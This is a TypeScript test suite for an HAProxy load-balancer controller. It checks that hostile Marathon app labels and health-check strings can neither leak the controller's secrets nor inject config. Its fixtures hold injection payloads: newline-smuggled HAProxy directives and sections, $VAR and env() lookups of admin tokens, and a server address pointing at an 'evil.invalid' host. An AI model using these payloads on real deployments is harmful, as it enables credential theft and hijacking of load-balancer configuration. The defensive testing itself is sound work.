import * as fs from 'node:fs';
import * as http from 'node:http';
import * as path from 'node:path';
import { findConfigDir } from '../../src/configDir';
import { freeLoopbackPorts, httpGet } from '../../src/demo/live';
import { prepareDemoFiles } from '../../src/demo/setup';
import { Simulator } from '../../src/simulator';
import { describeWithHaproxy } from '../support/haproxy';
import { accepting, unclaimedLoopbackPort } from '../support/ports';
import { tempDir } from '../support/render';
import { spawnService, type ServiceProcess } from '../support/serviceProcess';

const SECRET = 'CHAOS-MARATHON-PASSWORD';
/** crypt(3) hashes of "adminpw" and "guestpw" (openssl passwd -6), as HAPROXY_{n}_AUTH takes them. */
const ADMIN_HASH = '$6$mlbsaltA$1xQ1ieNmxVic1kCRaNDX3Z6P8DQdtA1EcLw.SiGM4p2fnSm/z8tFW.y4HhLzqbQ8yUumwsZL.rCb7/soBUdI2.';
const GUEST_HASH = '$6$mlbsaltG$5USQeSxa/ZDbbCwaS9lYhqrAd4IlYifD6MJCZbh2Bw.7ikfHD6cF6Uf8qYD0a1WM63torLbjwfR4dKOwZyKfX1';
const basic = (user: string, password: string): Record<string, string> => ({
  authorization: `Basic ${Buffer.from(`${user}:${password}`).toString('base64')}`,
});
const TOKEN = 'CHAOS-ADMIN-TOKEN';

interface FullAnswer {
  readonly status: number;
  readonly headers: string;
  readonly body: string;
}

/** A GET through HAProxy that keeps every response header, to look for leaked secrets anywhere. */
function getWithHeaders(
  port: number,
  host: string,
  urlPath = '/',
  headers: Record<string, string> = {},
): Promise<FullAnswer> {
  return new Promise((resolve, reject) => {
    const req = http.get(
      { host: '127.0.0.1', port, path: urlPath, headers: { host, ...headers }, agent: false, timeout: 2000 },
      (res) => {
        let body = '';
        res.on('data', (d: Buffer) => (body += d.toString()));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: JSON.stringify(res.headers), body }));
      },
    );
    req.on('timeout', () => req.destroy(new Error('timeout')));
    req.on('error', reject);
  });
}

/**
 * App owners write labels, Marathon supplies strings: none of it may reach the controller's secrets
 * (HAProxy expands `$VAR` from its environment) or add a line to the config. The controller runs as
 * users run it, with secrets in its MLB_* environment, against the simulator and a real HAProxy.
 */
describeWithHaproxy('chaos: hostile labels and Marathon strings cannot leak secrets or inject config', () => {
  let sim: Simulator;
  let service: ServiceProcess;
  let dir: string;
  let ports: { http: number; https: number; stats: number; appid: number; admin: number; injected: number };
  const answers: FullAnswer[] = [];
  const ask = async (host: string): Promise<FullAnswer> => {
    const a = await getWithHeaders(ports.http, host);
    answers.push(a);
    return a;
  };
  const config = (): string => fs.readFileSync(path.join(dir, 'haproxy.cfg'), 'utf8');

  beforeAll(async () => {
    dir = tempDir('mlb-chaos-labels-');
    // The simulator's task servers take OS-assigned ports: the ports this test relies on (one of
    // them must stay unbound) are below the kernel's ephemeral range (freeLoopbackPorts).
    sim = await Simulator.start({ serveTasks: true, auth: { basic: `mlb:${SECRET}` } });
    const [http, https, stats, appid, admin] = (await freeLoopbackPorts(5)) as [number, number, number, number, number];
    const injected = await unclaimedLoopbackPort(); // must stay unbound: where no other test binds
    ports = { http, https, stats, appid, admin, injected };
    const files = prepareDemoFiles(dir, findConfigDir(), ports);
    const group = (labels: Record<string, string>): Record<string, string> => ({
      HAPROXY_GROUP: 'external',
      ...labels,
    });
    const apps = [
      {
        id: '/good',
        instances: 2,
        labels: group({ HAPROXY_0_VHOST: 'good.example.com' }),
        portDefinitions: [{ port: 10401 }],
      },
      {
        id: '/redir',
        instances: 1,
        portDefinitions: [{ port: 10402 }],
        labels: group({
          HAPROXY_0_VHOST: 'redir.example.com',
          HAPROXY_0_HTTP_BACKEND_REDIR: '/login?t=${MLB_ADMIN_TOKEN}&c=$MLB_AUTH_CREDENTIALS',
        }),
      },
      {
        id: '/realm',
        instances: 1,
        portDefinitions: [{ port: 10403 }],
        labels: group({
          HAPROXY_0_VHOST: 'realm.example.com',
          HAPROXY_0_AUTH: '${MLB_ADMIN_TOKEN}:user:$5$salt$hash',
        }),
      },
      {
        id: '/dg',
        instances: 1,
        portDefinitions: [{ port: 10404 }],
        labels: group({
          HAPROXY_0_VHOST: 'dg.example.com',
          HAPROXY_DEPLOYMENT_GROUP: `dg\n  bind 127.0.0.1:${ports.injected}\n  mode http`,
        }),
      },
      {
        id: '/hc',
        instances: 1,
        portDefinitions: [{ port: 10405 }],
        labels: group({ HAPROXY_0_VHOST: 'hc.example.com' }),
        healthChecks: [
          {
            protocol: 'HTTP',
            portIndex: 0,
            path: '/health\n  http-request return status 200 content-type text/plain string pwned',
          },
        ],
      },
      {
        id: '/hostile',
        instances: 1,
        portDefinitions: [{ port: 10406 }],
        labels: group({
          HAPROXY_0_VHOST: 'a.example.com\n  http-request return status 200 string pwned',
          HAPROXY_0_BIND_OPTIONS: 'ssl crt "${HOME}"\nbind :1',
        }),
      },
      // Template labels are raw HAProxy text, yet must not read the environment or open a section.
      {
        id: '/tmpl-env',
        instances: 1,
        portDefinitions: [{ port: 10407 }],
        labels: group({
          HAPROXY_0_VHOST: 'tenv.example.com',
          HAPROXY_0_BACKEND_HTTP_OPTIONS:
            '  http-request return status 200 content-type text/plain string "leak:$MLB_ADMIN_TOKEN/${MLB_AUTH_CREDENTIALS}"\n',
        }),
      },
      {
        id: '/tmpl-fetch',
        instances: 1,
        portDefinitions: [{ port: 10408 }],
        labels: group({
          HAPROXY_0_VHOST: 'tfetch.example.com',
          HAPROXY_0_BACKEND_HTTP_OPTIONS:
            '  http-request return status 200 content-type text/plain lf-string "%[env(MLB_ADMIN_TOKEN)]"\n',
        }),
      },
      {
        id: '/tmpl-section',
        instances: 1,
        portDefinitions: [{ port: 10409 }],
        labels: group({
          HAPROXY_0_VHOST: 'tsection.example.com',
          HAPROXY_0_BACKEND_HEAD: `\nfrontend injected\n  bind 127.0.0.1:${ports.injected}\n  mode http\n  http-request return status 200 content-type text/plain string pwned\nbackend {backend}\n  balance {balance}\n  mode {mode}\n`,
        }),
      },
      {
        id: '/tmpl-addr',
        instances: 1,
        portDefinitions: [{ port: 10410 }],
        labels: group({
          HAPROXY_0_VHOST: 'taddr.example.com',
          HAPROXY_0_BACKEND_SERVER_OPTIONS: '  server {serverName} ${HOME}.evil.invalid:{port}\n',
        }),
      },
      // marathon-lb's ACL names cannot tell these apart: `host_`/`auth_` + vhost and id cleaned
      // ("admin.acl" + /pair and "admin" + /acl/pair are both admin_acl_pair), `app_` + id cleaned
      // (/acl/pair and /acl.pair are both _acl_pair).
      {
        id: '/pair',
        instances: 1,
        portDefinitions: [{ port: 10411 }],
        labels: group({
          HAPROXY_0_VHOST: 'admin.acl',
          HAPROXY_0_PATH: '/admin',
          HAPROXY_0_AUTH: `adm:admin:${ADMIN_HASH}`,
        }),
      },
      {
        id: '/acl/pair',
        instances: 1,
        portDefinitions: [{ port: 10412 }],
        labels: group({ HAPROXY_0_VHOST: 'admin', HAPROXY_0_PATH: '/evil', HAPROXY_0_AUTH: `pub:guest:${GUEST_HASH}` }),
      },
      {
        id: '/acl.pair',
        instances: 1,
        portDefinitions: [{ port: 10413 }],
        labels: group({ HAPROXY_0_VHOST: 'dot.example.com' }),
      },
    ];
    for (const app of apps) await sim.createApp(app);
    service = spawnService(files.flags, {
      PATH: process.env.PATH,
      HOME: process.env.HOME,
      MLB_MARATHON: sim.url,
      MLB_GROUP: 'external',
      MLB_SSE: 'true',
      MLB_AUTH_CREDENTIALS: `mlb:${SECRET}`,
      MLB_ADMIN_PORT: String(ports.admin),
      MLB_ADMIN_TOKEN: TOKEN,
      MLB_SYSLOG_SOCKET: '/dev/null',
      MLB_DEBOUNCE_QUIET: '0.05',
      MARATHON_LB_PID_FILE: path.join(dir, 'marathon-lb.pid'),
    });
    await service.ready();
  }, 40000);

  afterAll(async () => {
    await service.stop();
    await sim.close();
    fs.rmSync(dir, { recursive: true, force: true });
  }, 40000);

  test('the good app is served beside the hostile ones', async () => {
    let ok = 0;
    for (let i = 0; i < 20; i++) if ((await ask('good.example.com')).status === 200) ok++;
    expect(ok).toBe(20);
  });

  test("a redirect target, an AUTH realm and a template label cannot read the controller's environment", async () => {
    // The $ in a template label's double quotes is printed as the literal \$: served, as written.
    expect(await ask('tenv.example.com')).toMatchObject({
      status: 200,
      body: 'leak:$MLB_ADMIN_TOKEN/${MLB_AUTH_CREDENTIALS}',
    });
    for (const host of ['redir.example.com', 'realm.example.com', 'tfetch.example.com']) {
      const a = await ask(host);
      // Served (escaped) or left out (503): either way no secret, and never the good app's answer.
      expect([200, 301, 302, 401, 503]).toContain(a.status);
    }
    for (const a of answers) for (const secret of [SECRET, TOKEN]) expect(a.headers + a.body).not.toContain(secret);
  });

  test('line breaks in Marathon strings and labels add no directive: no injected bind, no injected answer', async () => {
    expect(await accepting(ports.injected)).toBe(false);
    for (const host of [
      'dg.example.com',
      'hc.example.com',
      'a.example.com',
      'tsection.example.com',
      'good.example.com',
    ])
      expect((await ask(host)).body).not.toBe('pwned');
    const cfg = config();
    expect(cfg).not.toContain('pwned');
    expect(cfg).not.toContain(`127.0.0.1:${ports.injected}`);
    expect(cfg).not.toMatch(/bind :1\b/);
    expect(cfg).not.toContain('frontend injected');
  });

  test('a template label cannot send a variable out through a server address', async () => {
    expect(config()).not.toContain('evil.invalid');
    expect((await ask('taddr.example.com')).status).toBe(503); // left out
    expect(service.output()).toMatch(/left out app \/tmpl-addr .*HAProxy fills \$NAME/);
  });

  test("apps whose ACL names clean alike: one app's users cannot pass the other's login, nor take its X-Marathon-App-Id", async () => {
    const victim = sim.tasksOf('/pair')[0]!.id;
    const other = sim.tasksOf('/acl/pair')[0]!.id;
    const dotted = sim.tasksOf('/acl.pair')[0]!.id;
    const admin = (headers: Record<string, string>): Promise<FullAnswer> =>
      getWithHeaders(ports.http, 'admin.acl', '/admin', headers);
    expect((await admin({})).status).toBe(401);
    expect((await admin(basic('guest', 'guestpw'))).status).toBe(401); // the other app's user
    const ok = await admin(basic('admin', 'adminpw'));
    expect(ok.status).toBe(200);
    expect(ok.body).toContain(victim);
    expect((await getWithHeaders(ports.http, 'admin', '/evil', basic('guest', 'guestpw'))).body).toContain(other);
    for (const [appId, task] of [
      ['/acl.pair', dotted],
      ['/acl/pair', other],
      ['/pair', victim],
    ] as const) {
      const byId = await getWithHeaders(ports.appid, 'anything', '/', { 'x-marathon-app-id': appId });
      expect(byId.body).toContain(task);
    }
  });

  test('routing keeps following Marathon after the hostile apps arrived', async () => {
    await sim.scale('/good', 3);
    const task = sim.tasksOf('/good')[2]!.id;
    let seen = false;
    for (let i = 0; i < 300 && !seen; i++)
      seen = (await httpGet(ports.http, 'good.example.com').catch(() => ({ body: '' }))).body.includes(task);
    expect(seen).toBe(true);
    for (const secret of [SECRET, TOKEN]) expect(service.output()).not.toContain(secret);
  }, 20000);
});
